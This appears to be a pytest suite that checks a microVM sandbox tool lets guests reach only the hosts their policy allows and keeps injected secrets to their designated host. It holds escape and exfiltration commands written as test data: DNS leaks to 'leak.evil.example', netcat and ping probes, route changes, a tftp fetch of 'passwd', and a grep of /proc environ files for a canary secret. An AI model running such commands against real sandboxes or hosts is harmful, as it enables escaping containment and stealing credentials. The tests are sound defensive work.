"""What an emulated microVM can reach: what its policy names, and nothing else. In the tests' own world."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.support.bottle import Bottle, Ended
from tests.support.engines import Docker
from tests.support.escapes import ESCAPES, client_context
from tests.support.killing import hold_network_ends_with_proxy
from tests.support.world import API, OTHER, WILD, World, hold_value_reached_its_host_alone, world

pytestmark = pytest.mark.timeout(600)

PROXY = "10.0.2.100"
# what root in a guest of QEMU may try besides
GUEST_ESCAPES = (
    f"ip route add default via 10.0.2.2; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
    f"ip route add {OTHER}/32 dev eth0; curl -sS -m 5 --noproxy '*' http://{OTHER}/",
    f"ip addr add 10.0.2.77/24 dev eth0; curl -sS -m 5 --noproxy '*' --interface 10.0.2.77 http://{OTHER}/",
    "curl -sS -m 5 --noproxy '*' http://10.0.2.2/; curl -sS -m 5 --noproxy '*' http://10.0.2.2:443/",
    "nslookup -timeout=2 leak.evil.example 10.0.2.3; echo leak | nc -w 2 10.0.2.3 53",
    "udhcpc -i eth0 -n -q -t 1 -s /bin/true; tftp -g -r passwd -l - 10.0.2.2",
    "for port in 22 80 139 443 445; do nc -w 2 10.0.2.4 $port; nc -w 2 10.0.2.100 $port; done </dev/null",
    f"for each in 10.0.2.2 {OTHER} 255.255.255.255; do"
    " echo leak | nc -u -w 2 $each 443; ping -c 1 -W 1 $each; done",
)
WORKS = """
set -e
curl -sS http://api.example.org/plain
curl -sS https://api.example.org/secure
git -c http.sslCAInfo=/ca.pem clone -q https://api.example.org/repo.git /tmp/repo && cat /tmp/repo/file
curl -sS https://api.example.org/size/20000000 | wc -c
head -c 20000000 /dev/zero | curl -sS -T - https://api.example.org/sink; echo
"""
CREDENTIAL = """
echo "holds $KEY"
curl -sS -m 60 -H "Authorization: Bearer $KEY" https://api.example.org/headers
curl -sS -m 60 -u "me:$KEY" https://api.example.org/headers
curl -sS -m 60 -H "X-Key: $KEY" https://other.example.org/headers
curl -sS -m 60 -H "X-Key: $KEY" http://api.example.org/headers
grep -s a-canary-value /proc/[0-9]*/environ /.bottle/ca.pem | head -c 100
"""

Run = Callable[..., Ended]


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The world that bottles could get out into."""
    with world(tmp_path_factory.mktemp("world")) as made:
        yield made


@pytest.fixture(scope="module")
def client(docker: Docker, outside: World, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive of an image with the programs that are used to get out."""
    folder = tmp_path_factory.mktemp("client")
    image = docker.build(client_context(folder, outside.folder / "cert.pem"))
    docker.docker("save", "--output", str(folder / "client.tar"), image)
    return folder / "client.tar"


@pytest.fixture
def there(shared_cache: Path, outside: World, tmp_path: Path) -> Iterator[Bottle]:
    """Run `bottle` in that world. Whatever a test does, no process stays."""
    outside.forget()
    changes = {
        "BOT_BOTTLE_STATE_DIR": str(tmp_path / "state"),
        "SSL_CERT_FILE": str(outside.folder / "cert.pem"),
    }
    made = Bottle(shared_cache, changes, prefix=outside.prefix)
    yield made
    assert made.leftovers == []


@pytest.fixture
def run(there: Bottle, client: Path) -> Run:
    def run(script: str, *options: str) -> Ended:
        own = ("run", "-q", "--accel=direct", "-m", "1g", "--name=walls", "-u", "0", "-w", "/tmp")
        return there(*own, *options, "--archive", client, "--", "sh", "-c", script, timeout=300)

    return run


def proof(there: Bottle) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(there("show", "--json", "walls").out)["proof"]
    return found


def test_with_one_host_allowed_all_of_it_works(run: Run, there: Bottle, outside: World) -> None:
    done = run(WORKS, "--allow", "api.example.org")
    assert done.code == 0, done
    plain, secure = (f"reached {API}:{port}" for port in (80, 443))
    assert done.out.splitlines() == [plain, secure, "from far away", "20000000", "20000000"]
    assert {each["address"] for each in outside.seen()} == {API}
    found = proof(there)
    assert all(each["ok"] for each in found.values())
    assert found["allowed-host"]["outcome"] == "open"
    assert {found[each]["outcome"] for each in ("refused-host", "host-loopback")} == {"refused"}
    assert found["qemu.user"]["outcome"] == "of its own"
    assert found["qemu.namespaces"]["outcome"] == "mount ipc uts network"


@pytest.mark.parametrize(
    ("options", "reachable"),
    [
        pytest.param((), set(), id="nothing"),
        pytest.param(("-p", "3000"), set(), id="a-port"),
        pytest.param(
            [f"--allow={name}.example.org" for name in ("api", "rebound", "clouded", "looped")],
            {API},
            id="hosts",
        ),
        pytest.param(("--allow=*.wild.example.net:443", "-p", "3000"), {WILD}, id="a-wildcard-and-a-port"),
    ],
)
def test_no_escape_reaches_what_is_not_allowed(
    run: Run, outside: World, options: tuple[str, ...], reachable: set[str]
) -> None:
    attempts = [attempt.replace("127.0.0.1 3128", f"{PROXY} 3128") for _, attempt in ESCAPES]
    attempts = [attempt.replace("127.0.0.1:3128", f"{PROXY}:3128") for attempt in attempts]
    at_once = [f"( {each}\n) </dev/null >/tmp/{number} 2>&1 &" for number, each in enumerate(attempts)]
    # these change the guest's network for the others, so they come last
    after = [f"( {each}\n) </dev/null >/tmp/9{number} 2>&1" for number, each in enumerate(GUEST_ESCAPES)]
    script = "\n".join(
        [*at_once, "wait", *after, 'for each in /tmp/[0-9]*; do head -c 2000 "$each"; echo "== tried"; done']
    )
    done = run(script, *options)
    assert done.out.count("== tried") == len(attempts) + len(GUEST_ESCAPES), done
    assert {each["address"] for each in outside.seen()} <= reachable, outside.seen()
    got_through = [line for line in done.out.splitlines() if line.startswith("reached ")]
    assert {line.split()[1].rpartition(":")[0] for line in got_through} <= reachable, done.out
    assert not [each for each in outside.seen() if "other" in str(each.get("host"))]


def test_a_secret_for_a_host_reaches_that_host_alone_and_not_the_bottle(
    run: Run, there: Bottle, outside: World, tmp_path: Path
) -> None:
    value = "a-canary-value-of-the-walls"
    (tmp_path / "key").write_text(f"{value}\n")
    options = ("--allow=api.example.org", "--allow=other.example.org")
    done = run(CREDENTIAL, *options, f"--secret=id=KEY,src={tmp_path}/key,host=api.example.org")
    assert done.out.startswith("holds BOTTLE_PLACEHOLDER_"), done
    assert "a-canary" not in done.out + done.err
    hold_value_reached_its_host_alone(outside, done.out.split()[1], value)
    assert value not in there("show", "--json", "walls").out


def test_a_running_bottle_is_checked_and_allowed_another_host(
    there: Bottle, client: Path, outside: World
) -> None:
    script = "until curl -sSf http://other.example.org/; do sleep 0.5; done"
    own = ("run", "-q", "-d", "--accel=direct", "-m", "1g", "--name=walls", "--allow=api.example.org")
    assert there(*own, "--archive", client, "--", "sh", "-c", script).code == 0
    checked = json.loads(there("check", "--json", "walls").out)
    assert all(each["ok"] for each in checked.values())
    assert {each["address"] for each in outside.seen()} <= {API}
    allowed = there("allow", "walls", "other.example.org")
    assert allowed.out.split() == ["api.example.org", "other.example.org"], allowed
    assert "reached" in there("logs", "-f", "walls").out
    there("rm", "walls")


def test_without_its_proxy_nothing_is_reached(there: Bottle, client: Path) -> None:
    own = ("--accel=direct", "-m", "512m", "--name=walls", "-u", "0", "-w", "/tmp")
    hold_network_ends_with_proxy(there, *own, "--archive", client)


def test_an_open_network_is_refused(run: Run) -> None:
    run("echo started", "--network", "open").failed(101, "--network open", "--accel nested")
